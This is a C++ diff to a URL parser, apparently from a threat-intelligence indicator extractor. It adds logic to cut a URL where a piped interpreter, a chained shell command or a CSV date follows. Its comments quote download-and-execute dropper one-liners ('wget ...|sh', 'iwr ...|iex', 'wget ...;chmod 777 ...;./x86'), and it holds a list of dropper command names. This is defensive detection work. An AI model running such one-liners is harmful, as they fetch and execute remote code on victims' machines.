@@ -67,22 +67,55 @@ bool starts_escape(std::string_view url, std::size_t i) {
     return next == 'n' || next == 'r' || next == 't' || next == 'u' || next == '"' || next == '\'';
 }
 
-/// Whether `rest`, the text after a "|" in a URL, is the name of a shell or
-/// script interpreter that a one-liner pipes the download into
-/// ("wget -O- http://x/a.sh|sh", "iwr http://x/s.ps1|iex"), ending the text
-/// or followed by a byte no file name holds ("|sh;", "|bash)").
-bool pipes_to_interpreter(std::string_view rest) {
-    static constexpr std::string_view kInterpreters[] = {"bash", "dash", "iex", "ksh", "perl", "python", "python3", "sh", "zsh"};
+/// Whether `rest` starts with one of `names` (any case), ending the text or
+/// followed by a byte no file name holds ("sh;", "chmod+777"): a shell
+/// word, not the start of a path's name ("/a|shop", ";chmodx").
+template <std::size_t N>
+bool starts_shell_word(std::string_view rest, const std::string_view (&names)[N]) {
     static constexpr ByteSet kNameBytes{"-./=?#%~"};
-    static constexpr ByteSet kFirstLetters{"bdikpszBDIKPSZ"};
-    if (rest.empty() || !kFirstLetters.contains(rest[0])) return false;   // most "|" in URLs
-    for (std::string_view name : kInterpreters) {
+    for (std::string_view name : names) {
         if (rest.size() < name.size() || !equal_ignoring_ascii_case(rest.substr(0, name.size()), name)) continue;
         if (rest.size() == name.size()) return true;
         const char next = rest[name.size()];
         if (!is_word(next) && !kNameBytes.contains(next)) return true;
     }
     return false;
+}
+
+/// Whether `rest`, the text after a "|" in a URL, is the name of a shell or
+/// script interpreter that a one-liner pipes the download into
+/// ("wget -O- http://x/a.sh|sh", "iwr http://x/s.ps1|iex"), ending the text
+/// or followed by a byte no file name holds ("|sh;", "|bash)").
+bool pipes_to_interpreter(std::string_view rest) {
+    static constexpr std::string_view kInterpreters[] = {"bash", "dash", "iex", "ksh", "perl", "python", "python3", "sh", "zsh"};
+    static constexpr ByteSet kFirstLetters{"bdikpszBDIKPSZ"};
+    if (rest.empty() || !kFirstLetters.contains(rest[0])) return false;   // most "|" in URLs
+    return starts_shell_word(rest, kInterpreters);
+}
+
+/// Whether `rest`, the text after a ";" in a URL's path, is the next
+/// command of a shell one-liner ("wget+http://x/x86;chmod+777+x86;./x86",
+/// the "+" a URL-encoded space): "./", or a command word that droppers run
+/// after a download. A path parameter is no such word ("/a;jsessionid=1").
+bool starts_shell_command(std::string_view rest) {
+    static constexpr std::string_view kCommands[] = {"bash",  "busybox", "cat",   "cd",  "chmod", "chown", "cp",
+                                                     "curl",  "echo",    "ftpget", "mkdir", "mv",  "nohup", "rm",
+                                                     "sh",    "tftp",    "wget"};
+    if (rest.starts_with("./")) return true;
+    return !rest.empty() && is_alpha(rest[0]) && starts_shell_word(rest, kCommands);
+}
+
+/// Whether `rest`, the text after a "," in a URL's path, is a CSV row's
+/// next field holding a date ("http://x/a.exe,2024-01-01,malware"): YYYY-MM-DD,
+/// then the end, "," or an ISO time's "T". A path's "," is followed by
+/// other text ("/@47.6,-122.3,15z", "?a=1,2,3").
+bool starts_csv_date(std::string_view rest) {
+    constexpr std::string_view kShape = "0000-00-00";
+    if (rest.size() < kShape.size()) return false;
+    for (std::size_t i = 0; i < kShape.size(); ++i) {
+        if (kShape[i] == '0' ? !is_digit(rest[i]) : rest[i] != kShape[i]) return false;
+    }
+    return rest.size() == kShape.size() || rest[kShape.size()] == ',' || rest[kShape.size()] == 'T';
 }
 
 /// Where the HTML character reference that the ";" at `semicolon` ends
@@ -246,7 +279,8 @@ std::size_t precise_length(std::string_view url, PreciseRead& read) {
                 if (!in_host) return i;
                 break;
             case ',':
-                if (in_host && !(i > 0 && is_digit(url[i - 1]) && i + 1 < url.size() && is_digit(url[i + 1]))) {
+                if (in_host ? !(i > 0 && is_digit(url[i - 1]) && i + 1 < url.size() && is_digit(url[i + 1]))
+                            : starts_csv_date(rest.substr(1))) {
                     return i;
                 }
                 break;
@@ -254,7 +288,7 @@ std::size_t precise_length(std::string_view url, PreciseRead& read) {
                 if (const std::size_t entity = markup_entity_start(url, i); entity != std::string_view::npos) return entity;
                 // No host holds one: a list ("evil[.]com;evil[.]net") or a
                 // key ("host=evil[.]com;port=443") goes on.
-                if (in_host) return i;
+                if (in_host || starts_shell_command(rest.substr(1))) return i;
                 break;
             case '[': case '(':
                 if (starts_closing_tag(rest)) return i;
